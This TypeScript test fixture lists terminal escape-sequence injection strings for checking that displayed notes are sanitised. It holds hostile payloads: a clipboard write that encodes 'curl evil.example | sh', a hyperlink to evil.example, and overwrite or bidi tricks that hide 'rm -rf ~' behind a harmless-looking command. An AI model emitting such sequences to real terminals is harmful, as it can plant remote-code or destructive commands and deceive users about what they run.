/**
 * Terminal-injection strings: what a note could hold to make a terminal clear itself, retitle
 * its window, plant a hyperlink or a clipboard write, answer queries with forged input, or make
 * one command look like another. Each carries the marker PWNED so a leak is easy to spot.
 */

export interface TerminalVector {
  readonly name: string
  readonly text: string
}

const ESC = "\u001b"
const BEL = "\u0007"
const ST = `${ESC}\\`

export const TERMINAL_VECTORS: readonly TerminalVector[] = [
  { name: "csi-sgr-colour", text: `${ESC}[31;1mPWNED red${ESC}[0m` },
  { name: "csi-clear-screen", text: `${ESC}[2J${ESC}[HPWNED cleared` },
  { name: "csi-cursor-up-erase", text: `${ESC}[1A${ESC}[2KPWNED erased the line above` },
  { name: "csi-alt-screen", text: `${ESC}[?1049hPWNED alternate screen` },
  { name: "csi-device-status-report", text: `${ESC}[6nPWNED asks for the cursor` },
  { name: "csi-report-title", text: `${ESC}[21tPWNED asks for the title` },
  { name: "csi-8bit", text: "\u009b31mPWNED C1 CSI" },
  { name: "osc-0-title", text: `${ESC}]0;PWNED title${BEL}` },
  { name: "osc-2-title", text: `${ESC}]2;PWNED title${ST}` },
  { name: "osc-8-hyperlink", text: `${ESC}]8;;https://evil.example/${ST}PWNED link${ESC}]8;;${ST}` },
  { name: "osc-52-clipboard", text: `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}PWNED clipboard` },
  { name: "osc-8bit", text: "\u009d0;PWNED C1 OSC\u009c" },
  { name: "dcs-decrqss", text: `${ESC}P$q"p${ST}PWNED DCS` },
  { name: "dcs-tmux-passthrough", text: `${ESC}Ptmux;${ESC}${ESC}]0;PWNED${BEL}${ST}` },
  { name: "dcs-8bit", text: "\u0090PWNED C1 DCS\u009c" },
  { name: "apc-pm-sos", text: `${ESC}_PWNED APC${ST}${ESC}^PWNED PM${ST}${ESC}XPWNED SOS${ST}` },
  { name: "c1-next-line", text: "PWNED\u0085next line" },
  { name: "reset-terminal", text: `${ESC}cPWNED reset` },
  { name: "bell", text: `PWNED ${BEL}${BEL}${BEL}bell` },
  { name: "backspace-overwrite", text: "safe command\b\b\b\b\b\b\b\b\b\b\b\bPWNED rm -rf" },
  { name: "carriage-return-overwrite", text: "kubectl get pods\rPWNED rm -rf ~ " },
  { name: "bidi-rlo", text: "kubectl get \u202Esdop\u202C PWNED" },
  { name: "bidi-lro-pdf", text: "\u202DPWNED\u202C override" },
  { name: "bidi-rle-lre", text: "\u202BPWNED\u202A embedding\u202C" },
  { name: "bidi-isolates", text: "\u2066PWNED\u2069 \u2067rtl\u2069 \u2068first\u2069" },
  { name: "vertical-tab-form-feed", text: "PWNED\u000b\u000cspacing" },
  { name: "delete-char", text: "PWNED\u007fdelete" },
]

/** Every character that must never reach a terminal from a note. */
export const FORBIDDEN_TERMINAL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u
